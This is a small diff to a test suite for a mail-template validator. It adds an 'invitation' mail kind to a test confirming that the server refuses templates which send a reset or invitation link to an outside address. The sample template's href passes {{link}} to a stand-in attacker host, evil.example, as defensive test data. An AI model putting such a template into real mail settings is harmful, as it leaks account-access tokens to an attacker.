@@ -107,7 +107,7 @@ describe('a mail template is refused', () => {
     expect(faults(await server.call(mails.update, { row: silent }, admin))).toEqual(['row.mail_en rule_mail_comment']);
   });
 
-  it.each(['reset', 'client_password', 'invitation', 'document_refused'] as const)(
+  it.each(['reset', 'client_password', 'client_invitation', 'invitation', 'document_refused'] as const)(
     'where the one of %s would send its link to an address of its author',
     async (kind) => {
       const row = { ...(await shipped(kind)), mail_en: '<p><a href="https://evil.example/?{{link}}">Open</a></p>' };
